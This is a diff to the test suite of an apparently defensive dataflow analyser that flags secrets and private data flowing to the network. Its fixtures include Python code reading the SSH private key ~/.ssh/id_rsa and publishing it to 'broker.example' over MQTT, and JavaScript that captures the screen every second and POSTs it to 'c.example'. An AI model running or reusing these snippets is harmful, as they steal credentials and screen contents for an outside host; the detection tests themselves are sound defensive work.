@@ -397,6 +397,15 @@ describe('dataflow analysis', () => {
   });
 
   describe('callbacks, file transfers and more sources', () => {
+    it('sends what paho-mqtt publishes, and nothing when paho is not imported', async () => {
+      const key = "import os\nimport paho.mqtt.client as mqtt\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n";
+      assert.deepEqual(summary(await flowsOf('python', `${key}c = mqtt.Client()\nc.connect('broker.example', 1883)\nc.publish('t/k', k)\n`)), ['secret: the SSH private key -> network']);
+      const single = await flowsOf('python', `${key}import paho.mqtt.publish as publish\npublish.single('t/k', payload=k, hostname='broker.example')\n`);
+      assert.deepEqual(single.map((flow) => flow.sink.host), ['broker.example']);
+      assert.deepEqual(await flowsOf('python', `${key}c = mqtt.Client()\nc.publish('status', 'ok')\n`), []);
+      assert.deepEqual(await flowsOf('python', "import os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nevents.publish('t', k)\n"), []);
+    });
+
     it('walks callbacks handed to timers and event handlers (JavaScript)', async () => {
       const timer = "const screenshot = require('screenshot-desktop');\nsetInterval(async () => {\n  const img = await screenshot();\n  await fetch('https://c.example/i', { method: 'POST', body: img });\n}, 1000);\n";
       assert.deepEqual(summary(await flowsOf('javascript', timer)), ['privacy: a screen capture -> network']);
